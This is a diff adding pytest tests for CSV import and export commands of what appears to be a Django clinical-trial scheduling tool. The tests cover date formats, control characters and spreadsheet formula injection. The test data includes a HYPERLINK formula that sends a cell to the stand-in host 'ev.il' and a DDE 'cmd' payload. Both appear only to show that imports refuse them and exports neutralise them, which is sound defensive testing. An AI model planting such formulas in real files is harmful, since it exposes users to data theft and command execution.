@@ -2,6 +2,7 @@
 (``FILE:LINE: field: message`` or one plain line, exit status 1, never a traceback, nothing
 half-saved)."""
 
+import csv
 import datetime
 import os
 import subprocess
@@ -418,3 +419,167 @@ def test_export_to_a_reader_that_stops_early_ends_quietly():
     errors = export.stderr.read()
     assert export.wait(timeout=60) == 0
     assert "Traceback" not in errors
+
+
+# Hostile input (issue 10, section 4): what a careless or hostile file or argument may hold.
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("value", ["2026-W06-1", "2026-032", "20260201", "2026-02-01T00:00"])
+def test_a_date_option_is_read_only_as_yyyy_mm_dd(make_participant, value):
+    make_participant(subject_id="SLE-001-101-004")
+    expected = [f"on: “{value}” is not a date (YYYY-MM-DD)."]
+    assert refused("transition", "SLE-001-101-004", "enrolled", "--on", value) == expected
+    assert refused("record_visit", "SLE-001-101-004", "SCR", "--on", value) == expected
+
+
+@pytest.mark.django_db
+def test_an_iso_week_date_in_a_csv_is_not_a_date(write, protocol, site_ocn):
+    path = write(
+        "participants.csv", PARTICIPANTS_HEADER, "SLE-001-101-001,OCN,p1@example.org,2026-W02-1"
+    )
+    assert refused("import_participants", path) == [
+        f"{path}:2: consent_date: “2026-W02-1” is not a date (YYYY-MM-DD)."
+    ]
+    assert not Participant.objects.exists()
+
+
+@pytest.mark.django_db
+def test_an_iso_week_date_exits_1_with_one_plain_line():
+    result = manage("transition", "SLE-001-101-004", "enrolled", "--on", "2026-W45-1")
+    assert (result.returncode, result.stderr) == (
+        1,
+        "on: “2026-W45-1” is not a date (YYYY-MM-DD).\n",
+    )
+
+
+@pytest.mark.django_db
+def test_control_characters_in_a_sites_file_are_refused_by_line_and_field(tmp_path):
+    path = tmp_path / "sites.csv"
+    path.write_text(
+        f"{SITES_HEADER},address,phone\n"
+        "OCN,Oceanside,America/Los_Angeles,ocn@example.org,,\n"
+        "BER,Ber\x00lin,Europe/Berlin,ber@example.org,,\n"
+        'MUC,"Munich\nClinic",Europe/Berlin,muc@example.org,,\n'
+        "HAM,Hamburg,Europe/Berlin,ham@example.org,1 Hafen\tstraße,+49\x1b[2J\n"
+        "FRA,Frankfurt,Mars/Olympus,fra@example.org,,\n",
+        encoding="utf-8",
+    )
+    assert refused("import_sites", str(path)) == [
+        f"{path}:3: name: contains a NUL byte (U+0000); a field holds one line of printable text.",
+        f"{path}:4: name: contains a line break (U+000A); a field holds one line of printable "
+        "text.",
+        f"{path}:6: address: contains a tab (U+0009); a field holds one line of printable text.",
+        f"{path}:6: phone: contains a control character (U+001B); a field holds one line of "
+        "printable text.",
+        f"{path}:7: timezone: “Mars/Olympus” is not an IANA time zone such as Europe/Berlin.",
+    ]
+    assert not Site.objects.exists()
+
+
+@pytest.mark.django_db
+def test_a_nul_byte_in_a_participants_file_is_refused_and_nothing_is_saved(
+    tmp_path, protocol, site_ocn
+):
+    path = tmp_path / "participants.csv"
+    path.write_text(
+        f"{PARTICIPANTS_HEADER}\n"
+        "SLE-001-101-001,OCN,p1@example.org,2026-01-05\n"
+        "SLE-001-101-002,OC\x00N,p2@example.org,2026-01-05\n"
+        "SLE-001-101-003\x00,OCN,p3@example.org,2026-01-05\n",
+        encoding="utf-8",
+    )
+    assert refused("import_participants", str(path)) == [
+        f"{path}:3: site_code: contains a NUL byte (U+0000); a field holds one line of "
+        "printable text.",
+        f"{path}:4: subject_id: contains a NUL byte (U+0000); a field holds one line of "
+        "printable text.",
+    ]
+    assert (Participant.objects.count(), Visit.objects.count()) == (0, 0)
+
+
+@pytest.mark.django_db
+def test_a_nul_byte_exits_1_with_file_line_field_and_no_traceback(tmp_path):
+    path = tmp_path / "sites.csv"
+    path.write_text(f"{SITES_HEADER}\nOCN,Ocean\x00side,UTC,ocn@example.org\n", encoding="utf-8")
+    result = manage("import_sites", str(path))
+    assert (result.returncode, result.stdout) == (1, "")
+    assert result.stderr.splitlines() == [
+        f"{path}:2: name: contains a NUL byte (U+0000); a field holds one line of printable text."
+    ]
+
+
+@pytest.mark.django_db
+def test_import_participants_refuses_a_consent_date_before_1990(write, protocol, site_ocn):
+    path = write(
+        "participants.csv",
+        PARTICIPANTS_HEADER,
+        "SLE-001-101-001,OCN,p1@example.org,0001-01-01",
+        "SLE-001-101-002,OCN,p2@example.org,1990-01-01",
+    )
+    assert refused("import_participants", path) == [
+        f"{path}:2: consent_date: 0001-01-01 is before 1990-01-01, the earliest date this "
+        "protocol accepts."
+    ]
+    assert not Participant.objects.exists()
+
+
+FORMULA = '=HYPERLINK("http://ev.il/?"&B2)'
+
+
+@pytest.mark.django_db
+def test_import_participants_refuses_a_subject_id_a_spreadsheet_would_run(
+    write, protocol, site_ocn
+):
+    path = write(
+        "participants.csv",
+        PARTICIPANTS_HEADER,
+        '"=HYPERLINK(""http://ev.il/?""&B2)",OCN,p1@example.org,2026-01-05',
+        "SLE 001 101 002,OCN,p2@example.org,2026-01-05",
+        "SLE-001-101-003,OCN,p3@example.org,2026-01-05",
+    )
+    assert refused("import_participants", path) == [
+        f"{path}:2: subject_id: “{FORMULA}” is not a subject id: use letters, digits, “-”, "
+        "“_” and “.”, beginning with a letter or digit.",
+        f"{path}:3: subject_id: “SLE 001 101 002” is not a subject id: use letters, digits, "
+        "“-”, “_” and “.”, beginning with a letter or digit.",
+    ]
+    assert not Participant.objects.exists()
+
+
+def exported_formulas(make_participant) -> Participant:
+    """A participant whose subject id and visit names were stored before they were checked."""
+    participant = make_participant(consent_date=D(2026, 1, 5))
+    Participant.objects.filter(pk=participant.pk).update(subject_id=FORMULA)
+    participant.visits.filter(code="SCR").update(name="@SUM(A1:A9)")
+    participant.visits.filter(code="LEUK").update(name="+1+cmd|' /C calc'!A0")
+    participant.visits.filter(code="INF1").update(name="-2+3")
+    participant.visits.filter(code="INF2").update(name="\t=1+1")
+    return participant
+
+
+def check_formulas_exported_as_text(text: str) -> None:
+    rows = {row[3]: row for row in csv.reader(StringIO(text)) if row[0] != "subject_id"}
+    assert {row[0] for row in rows.values()} == {"'" + FORMULA}
+    assert [rows[code][4] for code in ("SCR", "LEUK", "INF1", "INF2")] == [
+        "'@SUM(A1:A9)",
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'\t=1+1",
+    ]
+    # Numbers and dates stay as they are.
+    assert rows["SCR"][5:9] == ["2026-01-05", "2026-01-05", "2026-01-08", "-56"]
+
+
+@pytest.mark.django_db
+def test_export_schedule_writes_cells_a_spreadsheet_would_run_as_text(make_participant):
+    exported_formulas(make_participant)
+    check_formulas_exported_as_text(run("export_schedule"))
+
+
+@pytest.mark.django_db(transaction=True)
+def test_export_schedule_writes_formulas_as_text_through_a_real_process(make_participant):
+    exported_formulas(make_participant)
+    result = manage("export_schedule")
+    assert (result.returncode, result.stderr) == (0, "")
+    check_formulas_exported_as_text(result.stdout)
